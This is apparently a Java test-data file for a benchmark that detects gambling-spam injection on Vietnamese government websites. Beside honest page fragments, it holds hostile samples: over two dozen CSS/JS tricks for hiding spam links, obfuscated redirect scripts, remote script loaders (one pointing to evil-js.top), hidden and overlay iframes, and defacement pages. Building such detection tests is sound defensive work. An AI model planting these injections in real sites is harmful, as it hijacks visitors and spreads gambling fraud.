package vn.gov.haiduong.haidang.app.bench;

import java.util.List;
import java.util.function.UnaryOperator;

/** Passages, techniques and whole pages that {@link PageCorpus} puts together. */
final class PageTexts {

  static final List<String> HONEST =
      List.of(
          "<div class=\"news\"><h3><a href=\"/tin/1.html\">Công an tỉnh triệt phá đường dây đánh"
              + " bạc qua mạng nghìn tỷ đồng</a></h3><p>Cơ quan Cảnh sát điều tra đã khởi tố 12 bị"
              + " can về tội tổ chức đánh bạc, cá độ bóng đá trên trang w88, fun88.</p></div>",
          "<div><h3>Cảnh báo thủ đoạn lôi kéo người dân tham gia đánh bạc, tài xỉu"
              + " online</h3><p>Các đối tượng lập nhóm mời chào chơi nổ hũ, xóc đĩa, hứa hoàn trả;"
              + " người dân cần cảnh giác, không tham gia.</p></div>",
          "<div><a href=\"/xs\">Kết quả xổ số kiến thiết miền Bắc</a> <table><tr><td>Giải đặc"
              + " biệt</td><td>12345</td></tr></table></div>",
          "<div><h3>Giải bóng đá thanh niên</h3><p>Trực tiếp bóng đá vòng chung kết trên Đài PT-TH"
              + " Hải Dương; đội tuyển phường Trần Hưng Đạo vô địch.</p></div>",
          "<div><h3>Tập huấn ứng cứu sự cố</h3><p>Chuyên gia phân tích vụ trang web bị tấn công, để"
              + " lại dòng chữ hacked by; hướng dẫn khắc phục lỗ hổng, mã độc.</p></div>",
          "<div class=\"banner\"><a href=\"https://vtv.vn\"><img src=\"/b1.png\"></a><a"
              + " href=\"https://www.quochoi.vn\"><img src=\"/b2.png\"></a></div>",
          "<div class=\"popup\" style=\"display:none\"><a"
              + " href=\"https://zalo.me/sonoivu\">Zalo</a><a href=\"/khao-sat\">Khảo sát sự hài"
              + " lòng</a></div>",
          "<div><h3>Nhà thuốc trực Tết trên địa bàn</h3><p>Các nhà thuốc không được tăng giá, không bán"
              + " thuốc phá thai, thuốc kích dục khi không có đơn; phản ánh qua đường dây nóng"
              + " 0964.831.xxx.</p></div>",
          "<div>Tuyên truyền phòng chống tệ nạn cờ bạc, lô đề trong dịp Tết Nguyên đán tới các khu"
              + " dân cư</div>");

  static final List<String> HONEST_UNSEEN =
      List.of(
          "<article><h2>Xét xử nhóm đối tượng điều hành trang cá cược quốc tế</h2><p>Hội đồng xét"
              + " xử tuyên phạt các bị cáo mức án từ 3 đến 7 năm tù. Các bị cáo làm đại lý cho nhà"
              + " cái Bong88, thu tiền cược của hàng trăm con bạc.</p><p>Số tiền giao dịch hơn 500"
              + " tỷ đồng.</p></article>",
          "<div><a href=\"/canh-bao\">Rà soát, gỡ bỏ liên kết nhà cái, slot bị chèn vào trang thông"
              + " tin điện tử cơ quan nhà nước</a></div>",
          "<div>Vé số kiến thiết Hải Dương: mở thưởng thứ Năm hằng tuần; kết quả xổ số được công bố"
              + " công khai</div>",
          "<div>Chi đoàn tổ chức đá bóng giao hữu, kéo co; cờ tướng; câu lạc bộ cầu lông tranh cúp"
              + " mùa xuân</div>",
          "<div style=\"text-indent:-9999px\"><a href=\"/\">Trang chủ Sở</a></div><div"
              + " class=\"collapse\" style=\"height:0;overflow:hidden\"><a href=\"/faq\">Câu hỏi"
              + " thường gặp</a></div>",
          "<div>Phát hiện tụ điểm đá gà ăn tiền: Công an xã phối hợp bắt quả tang 7 đối tượng, thu"
              + " giữ 25 triệu đồng</div>",
          "<div class=\"text-danger\">Khuyến cáo: không truy cập các trang cờ bạc trực tuyến, game"
              + " bài đổi thưởng; vi phạm bị xử phạt theo Nghị định 144</div>",
          "<div><iframe src=\"https://www.google.com/maps/embed?pb=1\" width=\"100%\""
              + " height=\"300\"></iframe><form action=\"https://www.google.com/search\"><input"
              + " name=\"q\"></form></div>");

  static final List<String> WHOLE =
      List.of(
          "<html lang=\"en\"><head><title>Department of Home Affairs of Hai Duong"
              + " province</title></head><body><ul><li><a href=\"/en/1\">Home page</a></li><li><a"
              + " href=\"/en/2\">News and events</a></li><li><a href=\"/en/3\">Contact the"
              + " department</a></li></ul><p>The department is a body of the provincial People's"
              + " Committee and advises on the organisation of the state.</p></body></html>");

  static final List<String> WHOLE_UNSEEN =
      List.of(
          "<html lang=\"zh\"><head><meta charset=utf-8><title>海阳省电子门户 - Hai Duong"
              + " Portal</title></head><body><a href=\"/zh/1\">首页</a> <a"
              + " href=\"/zh/2\">旅游</a><p>海阳省位于越南北部红河三角洲，欢迎投资者来访。Hai Duong, Viet Nam."
              + " haiduong.gov.vn</p></body></html>",
          "<html><head><title>UBND thị trấn Lai Cách</title></head><body"
              + " style=\"background:#777\"><h1>TIN BUỒN</h1><p>Ban Thường vụ Đảng ủy, HĐND, UBND"
              + " thị trấn vô cùng thương tiếc báo tin đồng chí nguyên Chủ tịch đã từ trần.</p><a"
              + " href=\"/trang-chu\">Vào trang chủ</a></body></html>");

  static String links(String brand, int kind) {
    return switch (kind % 4) {
      case 0 ->
          "<a href=\"https://"
              + brand
              + ".xyz/\">nhà cái "
              + brand
              + "</a> <a href=\"https://www."
              + brand
              + ".club/dang-ky\">tài xỉu online</a> <a href=\"http://nohu.top\">nổ hũ đổi"
              + " thưởng</a>";
      case 1 ->
          "<a href=\"https://phim-hay.site/a\">xem thêm</a> <a"
              + " href=\"https://lamdep24.online/b\">chi tiết</a> <a"
              + " href=\"https://my-blog.icu/c\">tại đây</a>";
      case 2 ->
          "<a href=\"https://"
              + brand
              + ".vip\">"
              + brand
              + "</a>, <a href=\"https://soikeo.live\">soi kèo hôm nay</a>, <a"
              + " href=\"https://xoso.win\">dàn đề miễn phí</a>";
      default ->
          "<a href='//go"
              + brand
              + ".com/?ref=gov'>Link vào "
              + brand
              + " không bị chặn</a><a href='https://cuopnha.net'>trang web</a><a"
              + " href='https://tinhay.info'>bài viết</a>";
    };
  }

  static final List<UnaryOperator<String>> WAYS =
      List.of(
          x -> "<div style=\"display:none\">" + x + "</div>",
          x -> "<div style=\"visibility: hidden\">" + x + "</div>",
          x -> "<div style=\"position:absolute;left:-9999px;top:-9999px\">" + x + "</div>",
          x -> "<div hidden>" + x + "</div>",
          x -> "<p style=\"font-size:0\">" + x + "</p>",
          x -> "<style>.zx1{display:none!important}</style><div class=\"zx1\">" + x + "</div>",
          x -> "<div style=\"height:0;overflow:hidden\">" + x + "</div>",
          x -> "<div style=\"opacity:0\">" + x + "</div>",
          x ->
              "<div style=\"background:#fff;color:#ffffff\">"
                  + x.replace("<a ", "<a style=\"color:#fff\" ")
                  + "</div>",
          x -> "<marquee width=\"1\" height=\"1\" scrollamount=\"3000\">" + x + "</marquee>",
          x -> "<div style=\"text-indent:-9999px\">" + x + "</div>",
          x -> "<div style=\"position:absolute;clip:rect(0,0,0,0)\">" + x + "</div>",
          x ->
              "<div id=\"hd9\">"
                  + x
                  + "</div><script>document.getElementById('hd9').style.display='none';</script>");

  static final List<UnaryOperator<String>> WAYS_UNSEEN =
      List.of(
          x -> "<span style=\"FONT-SIZE: 1PX; line-height:1px\">" + x + "</span>",
          x ->
              "<style>#q77 a{color:rgb(250,250,250)} #q77{background-color:#fafafa}</style><div"
                  + " id=\"q77\">"
                  + x
                  + "</div>",
          x -> "<div style=\"clip-path: inset(100%)\">" + x + "</div>",
          x -> "<div style=\"max-height:1px; overflow: hidden\">" + x + "</div>",
          x -> "<div style=\"transform:scale(0)\">" + x + "</div>",
          x ->
              "<style>body .k_9{position:fixed;top:-3000px}</style><ul class=\"k_9\"><li>"
                  + x
                  + "</li></ul>",
          x ->
              "<script>document.write('<div style=\"position:absolute;left:-5000px\">');</script>"
                  + x
                  + "<script>document.write('</div>');</script>",
          x -> "<div style=\"margin-left:-99999px\">" + x + "</div>",
          x -> "<div style=\"position:absolute;z-index:-1;opacity:.01\">" + x + "</div>",
          x ->
              "<style>@media screen{div.wq{visibility:collapse}}</style><div class=\"wq\">"
                  + x
                  + "</div>",
          x ->
              "<div style=\"color:transparent\">"
                  + x.replace("<a ", "<a style=\"color:transparent\" ")
                  + "</div>",
          x -> "<div id='t5'>" + x + "</div><script>$('#t5').hide();</script>",
          x -> "<table style=\"display : none ;\"><tr><td>" + x + "</td></tr></table>");

  static final List<String> CODES =
      List.of(
          "<script>window.location.href='https://789bet.xyz/';</script>",
          "<meta http-equiv=\"refresh\" content=\"0;url=https://kubet.club/\">",
          "<script>if(document.referrer.indexOf('google')>-1){location.replace('https://vao-ngay.top/')}</script>",
          "<iframe src=\"https://cdn-stat.xyz/f\" width=\"0\" height=\"0\"></iframe>",
          "<script>eval(String.fromCharCode(119,105,110,100,111,119,46,108,111,99,97,116,105,111,110,61,39,104,116,116,112,115,58,47,47,97,98,46,120,121,122,39))</script>",
          "<script>document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fevil-js.top%2Fa.js%22%3E%3C%2Fscript%3E'))</script>");

  static final List<String> CODES_UNSEEN =
      List.of(
          "<script>var u='ht'+'tps:/'+'/go'+'88x.vip';top['location']=u;</script>",
          "<script>setTimeout(function(){self.location.assign(\"//dudoan.icu/?u=1\")},800)</script>",
          "<script>var"
              + " _0=atob('aHR0cHM6Ly90cmFuZy1tb2kuc2l0ZS9nbw==');window.location.replace(_0)</script>",
          "<script>var"
              + " s=document.createElement('script');s.src='\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x7a\\x7a\\x2e\\x62\\x75\\x7a\\x7a\\x2f\\x6a\\x2e\\x6a\\x73';document.head.appendChild(s)</script>",
          "<META HTTP-EQUIV='Refresh' CONTENT='3; URL=//luckybet.win'>",
          "<iframe style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'"
              + " src='https://game-moi.fun/'></iframe>");

  static final List<String> INSIDE =
      List.of(
          "<p>Nhà cái 789BET uy tín hàng đầu, đăng ký ngay nhận thưởng 88k, tài xỉu, nổ hũ, rút"
              + " tiền nhanh. <a href=\"https://789bet.xyz\">Đăng ký</a></p>",
          "<div><a href=\"https://kubet.club\">KUBET</a> <a href=\"https://jun88.top\">Jun88</a> <a"
              + " href=\"https://new88.vip\">NEW88</a></div>",
          "<p>nha cai uy tin, keo nha cai, tai xiu online <a href=\"https://okbet.win\">vao"
              + " ngay</a></p>",
          "<h2>kubetsonoivuhaiduong</h2><p>Trải nghiệm game bài đổi thưởng <a"
              + " href=\"https://gb.xyz\">ở đây</a></p>");

  static final List<String> INSIDE_UNSEEN =
      List.of(
          "<div>Nhà c\u200Bái số 1, c\u200Bá cược thể th\u200Bao, game bài đổi thưởng: <a"
              + " href=\"https://choi.fun/x\">link vào</a></div>",
          "<div>situs slot gacor hari ini maxwin, togel online terpercaya <a"
              + " href=\"https://slot-dana.id\">daftar</a></div>",
          "<div>真人娱乐城 百家乐 老虎机 <a href=\"https://ag-vip.cc\">下注</a></div>",
          "<div>nh4 c41 uy t1n, t4i xiu 0nline, n0 hu <a href=\"https://th-bet.pro\">d4ng"
              + " ky</a></div>",
          "<div>yo88congantinhhaiduong - soi cầu bạch thủ lô, chốt số hôm nay <a"
              + " href=\"https://lo-to.live\">xem</a></div>",
          "<div>เว็บพนันออนไลน์ บาคาร่า สล็อต เครดิตฟรี <a"
              + " href=\"https://ufa.bet\">สมัคร</a></div>");

  static final List<String> FACES =
      List.of(
          "<html><head><title>Hacked By Dr.Silent</title></head><body"
              + " bgcolor=black><center><h1><font color=red>HACKED BY Dr.Silent</font></h1><img"
              + " src=\"https://i.imgur.com/x.png\"><p>Your security is low. Greetz to all"
              + " friends</p></center></body></html>",
          "<html lang=\"vi\"><head><meta charset=utf-8><title>789BET - Nhà cái uy tín hàng đầu | Sở"
              + " Nội vụ Hải Dương</title><meta name=description content=\"789BET link vào nhà cái"
              + " mới nhất\"></head><body><h1>789BET nhà cái số 1</h1><p>Nhà cái 789BET với tài"
              + " xỉu, nổ hũ, bắn cá đổi thưởng. Đăng ký ngay nhận thưởng nạp đầu.</p><a"
              + " href=\"https://789bet.xyz\">Chơi ngay</a></body></html>",
          "<html lang=\"ja\"><head><meta charset=utf-8><title>ルイヴィトン 財布 激安"
              + " 通販</title></head><body><h1>ブランド 激安</h1><p>送料無料 正規品 財布 レディース 最安値 購入 楽天 割引"
              + " セール開催中です</p><a href=\"https://shop-jp.top/p1\">購入する</a><a"
              + " href=\"https://shop-jp.top/p2\">販売</a></body></html>");

  static final List<String> FACES_UNSEEN =
      List.of(
          "<html><head><title>Pwned!</title></head><body"
              + " style='background:#000;color:#0f0'><pre>root@gov:~# 0wned by GhostSec VN crew\n"
              + "we are legion, expect us</pre></body></html>",
          "<html><head><meta charset=utf-8><title>SLOT GACOR 2026 : Situs Slot Online Resmi"
              + " Terpercaya</title><link rel=canonical"
              + " href=\"https://slot-resmi.pages.dev/\"></head><body><h1>Situs slot"
              + " gacor</h1><p>Daftar situs judi online terpercaya dengan bonus, maxwin mudah"
              + " menang untuk anda yang bermain di situs ini</p><a"
              + " href=\"https://slot-resmi.pages.dev\">DAFTAR</a></body></html>",
          "<html lang=vi><head><meta charset=utf-8><title>Tìm kiếm: yo88 nhà cái link vào mới nhất"
              + " giám đốc công an tỉnh hải dương</title></head><body><h1>Kết quả tìm kiếm cho:"
              + " yo88 nhà cái link vào mới nhất</h1><p>Không tìm thấy kết quả cho yo88.com nhà cái"
              + " tài xỉu</p><a href=\"/\">Trang chủ</a><a href=\"/tin\">Tin tức</a></body></html>",
          "<html><head><title>.:: Trang web đã bị hack ::.</title></head><body><h1>Website này bị"
              + " hack bởi Bóng Ma Team</h1><p>Admin ngu, vá lỗi đi! greetz: all"
              + " member</p></body></html>",
          "<html><head><meta charset=utf-8><title>娱乐城官网</title></head><body><p>澳门赌场 真人娱乐 百家乐 体育投注"
              + " 老虎机 下注 官网 最新网址 注册送彩金</p><a href=\"https://am.cc\">进入</a></body></html>");

  private PageTexts() {}
}
